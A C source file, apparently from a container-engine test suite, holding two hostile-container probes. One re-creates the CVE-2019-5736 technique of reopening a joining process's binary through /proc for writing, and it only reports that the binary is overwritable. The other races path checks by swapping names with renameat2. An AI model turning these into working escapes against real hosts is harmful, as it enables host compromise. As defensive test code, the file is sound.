/* Programs of hostile containers, which run while the engine works on the container, until they are killed. */
#include "probe.h"
#include <dirent.h>

enum { RENAME_EXCHANGED = 2 };

/*
 * CVE-2019-5736: opens the program of each process that joins the container through /proc/PID/exe, and opens that for
 * writing once the process has ended. Prints a line for each that could be opened, and writes nothing to it.
 */
int attack_exe(void) {
  struct stat own, other;
  char path[64];
  if (stat("/proc/self/exe", &own) < 0) return 1;
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("ready");
  for (;;)
    for (pid_t pid = 2; pid < 400; pid++) {
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (fstat(fd, &other) == 0 && (other.st_dev != own.st_dev)) {
        char target[256] = {0};
        if (readlink(path, target, sizeof target - 1) < 0) target[0] = 0;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        for (int i = 0; i < 2000; i++) {
          int writable = open(path, O_WRONLY | O_CLOEXEC);
          if (writable >= 0) {
            printf("overwritable %s\n", target);
            close(writable);
            break;
          }
          if (errno != ETXTBSY) break;
          usleep(500);
        }
      }
      close(fd);
    }
}

/* Exchanges two names as fast as it can, so that the engine's check and use of a path may see different files. */
int attack_swap(const char *first, const char *second) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("ready");
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGED) < 0) {
      perror("attack-swap");
      return 1;
    }
}
